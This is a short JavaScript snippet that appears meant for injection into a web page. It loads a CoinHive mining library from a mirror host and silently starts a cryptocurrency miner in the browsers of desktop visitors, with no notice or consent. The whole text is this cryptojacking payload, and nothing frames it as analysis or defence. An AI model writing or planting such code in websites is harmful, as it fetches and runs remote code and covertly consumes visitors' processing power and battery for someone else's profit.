(function () {
  var s = document.createElement("script");
  s.src = "https://coin-hive-mirror.invalid/lib/coinhive.min.js";
  s.async = true;
  s.onload = function () {
    var miner = new CoinHive.Anonymous("site-public-key", { throttle: 0.2 });
    if (!miner.isMobile()) miner.start();
  };
  document.head.appendChild(s);
})();
